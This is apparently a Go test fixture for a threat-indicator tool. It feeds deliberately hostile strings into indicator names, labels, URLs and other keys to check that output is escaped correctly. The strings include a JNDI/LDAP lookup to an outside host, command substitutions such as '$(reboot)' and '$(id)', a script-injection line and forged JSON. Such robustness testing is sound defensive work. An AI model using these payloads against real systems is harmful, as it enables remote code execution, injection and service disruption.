package outputtest

import (
	"strings"

	"github.com/indicatord/indicatord/internal/indicator"
)

// hostileTexts are what a hub may put into a name, a label or a description in
// order to end a line, a string or a document and to go on with its own.
var hostileTexts = []string{
	"line one\nline two",
	"carriage\r\nreturn",
	"\n45.155.66.66\n",
	`a "quoted" and a 'quoted' word`,
	`back\slash \" \n \u0000`,
	`]} ,{"index":{"_id":"forged"}}`,
	"</script><script>alert(1)</script>",
	"${jndi:ldap://grid-portal.net/a} $(reboot) `reboot` ; reboot",
	"nul \x00 bell \a escape \x1b[31m delete \x7f",
	"next line \u0085 line separator \u2028 paragraph separator \u2029",
	"right to left \u202e override, byte order mark \ufeff",
	"配电网 🔌 ﷽",
	"not UTF-8: \xff\xfe \xc3\x28",
	"%s %d %n %00 {{.}} {% x %}",
	strings.Repeat("long ", 20_000),
	"",
}

// hostileEntries are entries with ordinary keys and hostile text.
func hostileEntries() []indicator.Entry {
	entries := Entries(7, 4*len(hostileTexts))
	for i := range entries {
		text := hostileTexts[i%len(hostileTexts)]
		assertion := &entries[i].Assertions[0]
		object := *assertion.Object
		object.Name = text
		object.Description = text
		object.CreatedBy = text
		object.ID = "indicator--" + text
		object.Labels = []string{text, "sector:energy"}
		object.Types = []string{text}
		object.Threats = []indicator.Threat{{Name: text, Type: text}}
		object.References = []indicator.Reference{{Source: text, URL: text, ExternalID: text}}
		object.Pattern = text
		assertion.Object = &object
	}
	return entries
}

// hostileKeys are entries with keys that are canonical and yet hold whatever a
// value of their kind may hold.
func hostileKeys() []indicator.Entry {
	return []indicator.Entry{
		NewEntry(indicator.URL, "http://grid-portal.net/a'b;c%7Cd,e$(f)?g=%0A%0D&h=%22i%22"),
		NewEntry(indicator.URL, "http://grid-portal.net/%22%5C"),
		NewEntry(indicator.Email, "o'brien+tag@grid-portal.net"),
		NewEntry(indicator.Domain, "_dmarc.grid-portal.net"),
		NewEntry(indicator.FileName, `two words "quoted" 'quoted' back\slash.exe`),
		NewEntry(indicator.FileName, "发票 2026.docx"),
		NewEntry(indicator.FileName, `"]} = \] ,`),
		NewEntry(indicator.Process, `cmd.exe /c "echo ${PATH} %PATH% $(id) ; # //"`),
		NewEntry(indicator.RegistryKey, `HKCU\Software\"x"\[y]=z`),
		NewEntry(indicator.Mutex, " leading and trailing "),
		NewEntry(indicator.UserAgent, "Mozilla/5.0 \u2028 \u202e (x; y) =[]\""),
		newRule("sigma", "title: \"x\"\r\ndetection: '\u2028]} = \\ \x00'\n"),
		NewEntry(indicator.Other, `software:name=a "b" 'c' = d`),
	}
}
